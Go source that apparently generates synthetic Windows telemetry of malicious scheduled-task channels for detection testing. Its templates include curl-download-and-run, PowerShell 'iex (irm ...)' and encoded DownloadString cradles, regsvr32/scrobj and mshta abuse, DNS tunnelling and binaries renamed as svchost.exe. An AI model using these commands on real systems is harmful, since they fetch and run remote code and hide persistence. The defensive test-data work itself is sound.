package realistic

import "strings"

// stories are the channels, one of each. Names, folders, accounts and places come from
// where the tail's come from.
var stories = []story{
	{kind: "deep", devices: 1, make: deepStory},
	{kind: "curl-loop", devices: 1, make: curlStory},
	{kind: "slow", devices: 1, fits: plainAndAlwaysOn, make: slowStory},
	{kind: "jitter", devices: 1, make: jitterStory},
	{kind: "random-arguments", devices: 30, make: randomArgumentsStory},
	{kind: "spread-40", devices: 40, make: spreadStory},
	{kind: "three", devices: 3, make: threeStory},
	{kind: "proxied", devices: 1, needs: proxied, fits: func(m *machine) bool { return m.proxy != nil && !m.sensor.hidesParents }, make: proxiedStory},
	{kind: "com-handler", devices: 1, alter: comStory},
	{kind: "hijack-child", devices: 1, alter: hijackChild},
	{kind: "hijack-file", devices: 1, alter: hijackFile},
	{kind: "no-parent-command", devices: 1, needs: hidesParents, fits: func(m *machine) bool { return m.proxy == nil && m.sensor.hidesParents }, make: hiddenParentStory},
	{kind: "dns-only", devices: 1, make: lookupStory},
	{kind: "dns-tunnel", devices: 1, make: tunnelStory},
	{kind: "shared-cdn", devices: 1, make: sharedStory},
	{kind: "once", devices: 1, make: onceStory},
	{kind: "renamed-system", devices: 1, make: renamedStory},
	{kind: "stays", devices: 1, fits: startsInTheLog, make: staysStory},
	{kind: "fake-updater", devices: 1, make: fakeUpdaterStory},
	{kind: "encoded", devices: 1, make: encodedStory},
	{kind: "signed-hosts", devices: 1, make: signedHostsStory},
	{kind: "python-profile", devices: 1, make: pythonStory},
	{kind: "programdata-script", devices: 1, make: scriptStory},
	{kind: "stock-task", devices: 1, alter: stockStory},
}

func plainAndAlwaysOn(m *machine) bool {
	return m.plain() && (m.class == tower || m.class == server)
}

// startsInTheLog holds for devices that start anew early in the log.
func startsInTheLog(m *machine) bool {
	for _, s := range m.sessions {
		if s.from > m.w.from && s.from < m.w.from+(m.w.to-m.w.from)/2 && m.plain() {
			return true
		}
	}
	return false
}

// each is the schedule of a channel.
func each(period, delay Time) trigger {
	return trigger{on: every, every: period, delay: delay, catchUp: period >= 8*hour}
}

// vendorLike and scriptLike are tasks under a name as the tail has them.
func vendorLike(w *world, d dice, when trigger, root node) kind {
	v := w.names.vendor()
	return rareTask(vendorTaskName(d, v, pick(d, products)), pick(d, []string{v, `CORP\{user}`}), when, versionNumber(d), root)
}

func scriptLike(w *world, d dice, when trigger, stem string, root node) kind {
	k := scriptTask(w, d, stem, root)
	k.when = when
	return k
}

func deepStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 6*hour, 0)
	f := pick(d, scriptFolders)
	return scriptLike(w, d, each(6*hour, 0), stem, chain(
		tool("forfiles.exe", ` /p C:\ProgramData /m `+stem+`.log /c "cmd /c `+f+stem+`.cmd"`), bare("cmd.exe", ` /c `+f+stem+`.cmd`), bare("wscript.exe", ` `+stem+`.vbs`),
		bare("cmd.exe", ` /c start /min `+stem+`2.cmd`), ps(`-ep bypass -file `+stem+`.ps1`), bare("cmd.exe", ` /c `+stem+`3.cmd`), bare("cscript.exe", ` //B `+stem+`.js`),
		ps(`-c "& .\`+stem+`"`), exe(`C:\ProgramData\`+stem+`\`+stem+`.exe`, stem+`.exe -d`).by("-").call(c).lives(2*second, 40*second)))
}

func curlStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 5*minute, 0)
	arguments := ` -s https://` + hostOf(p.where) + `/` + d.text(6, mixedCase) + ` -o C:\Users\Public\` + stem + `.bat`
	return scriptLike(w, d, each(5*minute, 0), stem, cmd(`curl`+arguments+` & C:\Users\Public\`+stem+`.bat`).with(bare("curl.exe", arguments).call(c)))
}

func slowStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 56*hour, 0)
	return scriptLike(w, d, each(56*hour, 0), stem, chain(cmd(pick(d, scriptFolders)+stem+`.bat`), bare("wscript.exe", ` //B `+stem+`.vbs`), bare("cmd.exe", ` /c `+stem+`.cmd a`), ps(`-nop -file `+stem+`.ps1`),
		bare("cmd.exe", ` /c cmd /c `+stem), bare("cmd.exe", ` /c `+stem), ps(`-c `+stem), bare("rundll32.exe", ` C:\ProgramData\`+stem+`.dll,Start`).call(c)))
}

func jitterStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), hour, 0.37)
	when := trigger{on: every, every: hour, jitter: 0.37}
	return scriptLike(w, d, when, stem, ps(pick(d, psOptions)+`-File "`+pick(d, scriptFolders)+stem+`.ps1"`).call(c))
}

func randomArgumentsStory(w *world, d dice, p *plant) kind {
	v, c := w.names.vendor(), p.calls(w.own(""), 2*hour, 0)
	file := `C:\ProgramData\` + v + `\` + programName(d, v)
	return vendorLike(w, d, each(2*hour, 10*minute), exe(file, file+` -k {dhex} -id {dguid}`).by("-").call(c))
}

func spreadStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 4*hour, 0)
	return scriptLike(w, d, each(4*hour, 20*minute), stem, chain(cmd(`C:\ProgramData\`+stem+`.cmd`), ps(`-ep bypass -file C:\ProgramData\`+stem+`.ps1`), bare("regsvr32.exe", ` /s C:\ProgramData\`+stem+`.dat`).call(c).lives(2*second, 20*second)))
}

func threeStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 3*hour, 0.1)
	f := pick(d, scriptFolders)
	return scriptLike(w, d, trigger{on: every, every: 3 * hour, jitter: 0.1}, stem, chain(tool("wscript.exe", ` //B "`+f+stem+`.js"`), bare("cmd.exe", ` /c `+stem+`.cmd`), ps(`-file `+stem+`.ps1`),
		bare("rundll32.exe", ` `+stem+`.dll,#1`), bare("cmd.exe", ` /c `+stem+`2.cmd`), exe(`C:\Windows\Temp\`+stem+`.exe`, stem+`.exe`).by("-").call(c)))
}

func proxiedStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 45*minute, 0.05)
	return scriptLike(w, d, trigger{on: every, every: 45 * minute, jitter: 0.05}, stem, chain(cmd(pick(d, scriptFolders)+stem+`.cmd`), bare("wscript.exe", ` `+stem+`.vbs`), bare("cmd.exe", ` /c `+stem+`2.cmd`), ps(`-c "iwr https://`+hostOf(p.where)+`/t"`),
		bare("curl.exe", ` -s https://`+hostOf(p.where)+`/u`).call(c)))
}

func hiddenParentStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 2*hour, 0.15)
	return scriptLike(w, d, trigger{on: every, every: 2 * hour, jitter: 0.15}, stem, cmd(pick(d, scriptFolders)+stem+`.bat`).with(ps(`-w hidden -file `+stem+`.ps1`).call(c)))
}

func lookupStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 30*minute, 0.2)
	c.dns, p.where.hosts[0] = true, "{dhex}."+p.where.hosts[0]
	return scriptLike(w, d, trigger{on: every, every: 30 * minute, jitter: 0.2}, stem, ps(pick(d, psOptions)+`-File "`+pick(d, scriptFolders)+stem+`.ps1"`).call(c))
}

func tunnelStory(w *world, d dice, p *plant) kind {
	v, c := w.names.vendor(), p.calls(w.own(""), 4*hour, 0)
	c.dns, c.times, p.where.hosts = true, [2]int{6, 40}, []string{"{label}.x." + w.names.domain("")}
	file := `{home}\AppData\Roaming\` + v + `\` + programName(d, v)
	return vendorLike(w, d, each(4*hour, 0), exe(file, `"`+file+`"`).by("-").as(asUser).lives(20*second, 3*minute).call(c))
}

func sharedStory(w *world, d dice, p *plant) kind {
	v, c := w.names.vendor(), p.calls(w.shared(), hour, 0)
	file := `C:\ProgramData\` + v + `\` + programName(d, v)
	return vendorLike(w, d, each(hour, 2*minute), exe(file, `"`+file+`" -q`).by(v).call(c))
}

func onceStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 0, 0)
	return scriptLike(w, d, trigger{on: once}, stem, cmd(`powershell -w hidden -c "iex (irm https://`+hostOf(p.where)+`/`+d.text(6, mixedCase)+`)"`).with(ps(`-w hidden -c "iex (irm https://`+hostOf(p.where)+`/x)"`).call(c)))
}

func renamedStory(w *world, d dice, p *plant) kind {
	name, c := pick(d, []string{"svchost.exe", "RuntimeBroker.exe", "taskhostw.exe", "spoolsv.exe", "dllhost.exe"}), p.calls(w.own(""), 90*minute, 0.25)
	file := pick(d, []string{`C:\ProgramData\`, `C:\Users\Public\`, `{home}\AppData\Local\`}) + pick(d, []string{`Microsoft\`, `Windows\`, ``}) + name
	return vendorLike(w, d, trigger{on: every, every: 90 * minute, jitter: 0.25}, exe(file, `"`+file+`"`+pick(d, []string{"", " -k netsvcs", " -Embedding"})).by("-").built(strings.Replace(name, ".exe", "64.exe", 1)).call(c))
}

func staysStory(w *world, d dice, p *plant) kind {
	v, c := w.names.vendor(), p.calls(w.own(""), 90*second, 0.3)
	c.every, c.jitter = 90*second, 0.3
	file := pick(d, []string{`C:\ProgramData\` + v + `\`, `{home}\AppData\Local\` + v + `\`}) + programName(d, v)
	return vendorLike(w, d, trigger{on: atBoot, delay: 30 * second, atOnce: true}, exe(file, `"`+file+`"`).by(v).lives(forever, forever+1).call(c))
}

func fakeUpdaterStory(w *world, d dice, p *plant) kind {
	v, c := w.names.vendor(), p.calls(w.own(""), 6*hour, 0)
	product := pick(d, products)
	file := pf(v, product, programName(d, product))
	when := dailyAt(Time(d.within(8, 15))*hour, 30*minute)
	if d.chance(0.7) {
		when = each(6*hour, 5*minute)
	}
	when.atOnce = true
	return rareTask(vendorTaskName(d, v, product), v, when, versionNumber(d), exe(file, `"`+file+`"`+pick(d, updaterArguments)).by(v).call(c))
}

func encodedStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 24*hour, 0)
	return scriptLike(w, d, each(24*hour, 3*minute), stem, ps(`-nop -w hidden -enc `+encoded(`$c=New-Object Net.WebClient;iex $c.DownloadString('https://`+hostOf(p.where)+`/`+d.text(5, lower)+`')`)).call(c))
}

func signedHostsStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 8*hour, 0.1)
	return scriptLike(w, d, trigger{on: every, every: 8 * hour, jitter: 0.1}, stem, chain(tool("mshta.exe", ` C:\ProgramData\`+stem+`.hta`), bare("cmd.exe", ` /c regsvr32 /s /n /u /i:`+stem+`.sct scrobj.dll`),
		bare("regsvr32.exe", ` /s /n /u /i:`+stem+`.sct scrobj.dll`), bare("rundll32.exe", ` C:\ProgramData\`+stem+`.dll,Run`).call(c)))
}

func pythonStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 20*minute, 0.2)
	host := pick(d, pythons[:2])
	k := scriptLike(w, d, trigger{on: every, every: 20 * minute, jitter: 0.2}, stem, exe(host, `"`+host+`" {home}\`+pick(d, []string{`AppData\Roaming\`, `Documents\`, `scripts\`})+stem+`.py`).by("Python Software Foundation").call(c))
	k.editions[0].root.account = asUser
	return k
}

func scriptStory(w *world, d dice, p *plant) kind {
	stem, c := w.names.script(), p.calls(w.own(""), 12*hour, 0)
	return scriptLike(w, d, each(12*hour, 0), stem, chain(tool("wscript.exe", ` "C:\ProgramData\`+stem+`\`+stem+`.vbs"`), bare("cmd.exe", ` /c `+stem+`1.cmd`), bare("cmd.exe", ` /c `+stem+`2.cmd`), bare("cscript.exe", ` `+stem+`.vbs`), ps(`-file `+stem+`.ps1`),
		bare("regsvr32.exe", ` /s `+stem+`.ocx`), exe(`C:\Windows\Temp\`+stem+`.tmp`, stem+`.tmp /s`).by("-").call(c)))
}

func comStory(w *world, d dice, p *plant) (string, func(*edition)) {
	c := p.calls(w.own(""), 25*minute, 0.2)
	c.every, c.jitter = 25*minute, 0.2
	return pick(d, []string{"com-plain", "com-cache"}), func(e *edition) { e.root = e.root.call(c) }
}

func hijackChild(w *world, d dice, p *plant) (string, func(*edition)) {
	c := p.calls(w.own(""), 0, 0)
	child := pick(d, []node{cmd(`start /min {home}\AppData\Local\Temp\{dhex}.bat`), ps(`-nop -w hidden -c "iwr https://` + hostOf(p.where) + `/s"`), bare("rundll32.exe", ` {home}\AppData\Local\Temp\{dhex}.dll,Start`)}).call(c)
	return pick(d, []string{"edge-ua", "chrome", "inventory", "office-features"}), func(e *edition) { e.root = e.root.with(child) }
}

func hijackFile(w *world, d dice, p *plant) (string, func(*edition)) {
	c := p.calls(w.own(""), 0, 0)
	return pick(d, []string{"av-update", "backup", "adobe", "onedrive"}), func(e *edition) {
		e.root.content = "changed " + e.root.image
		e.root.calls = []call{c}
	}
}

func stockStory(w *world, d dice, p *plant) (string, func(*edition)) {
	v, c := w.names.vendor(), p.calls(w.own(""), 0, 0)
	file := pick(d, []string{`C:\ProgramData\` + v + `\` + programName(d, v), `C:\Windows\Tasks\` + programName(d, v)})
	return pick(d, []string{"dsregcmd", "com-flighting", "pca"}), func(e *edition) {
		e.class, e.retasked = "", true
		e.root = pick(d, []node{exe(file, file).by("-"), tool("rundll32.exe", ` C:\ProgramData\`+v+`\`+strings.ToLower(v)+`.dll,Start`)}).call(c)
	}
}
